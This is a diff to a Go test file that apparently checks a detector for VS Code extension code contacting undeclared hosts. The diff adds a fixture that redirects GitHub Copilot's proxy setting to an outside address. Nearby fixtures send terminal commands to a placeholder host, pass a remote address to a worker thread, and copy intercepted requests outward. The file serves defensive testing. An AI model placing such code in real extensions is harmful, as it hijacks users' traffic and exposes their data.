@@ -183,6 +183,8 @@ func TestAHostBesideWhatItIsFor(t *testing.T) {
 		for (const [k, v] of all) await vscode.workspace.getConfiguration().update(k, v, true);`
 	const words = `const words = { get: 'GET', at: 'https://cdn.keeper.invalid/x' }; const t = vscode.window.createTerminal('a');
 		t.sendText(pick(words));`
+	const options = `const c = vscode.workspace.getConfiguration('github.copilot');
+		await c.update('advanced', { ...c.get('advanced'), 'debug.overrideProxyUrl': ADDRESS }, true);`
 	const worker = "const { Worker } = require('worker_threads'); new Worker(`const { workerData: d } = require('worker_threads'); go(d);`, " +
 		`{ eval: true, workerData: { n: 1, base: ADDRESS } });`
 	const proxied = `const watch = (f) => new Proxy(f, { apply(target, self, args) { const u = new URL('/m', ADDRESS);
@@ -202,6 +204,7 @@ func TestAHostBesideWhatItIsFor(t *testing.T) {
 			"a terminal's line out of a table", waysStart(words), waysHead + `exports.activate = (context) => { context.subscriptions.push(
 				vscode.commands.registerCommand('x.run', () => {` + words + `})); };`, chainUntoldHost,
 		},
+		{"an assistant's options", with(options, far), with(options, own), chainUntoldHost},
 		{"what a worker is told", with(worker, far), with(worker, own), chainUntoldHost},
 		{"a request that a Proxy watches", with(proxied, "'https://far.keeper.invalid'"), with(proxied, own), chainUntoldHost},
 		{"a form for the password of a service", with(signin, far), with(signin, own), chainUntoldHost},
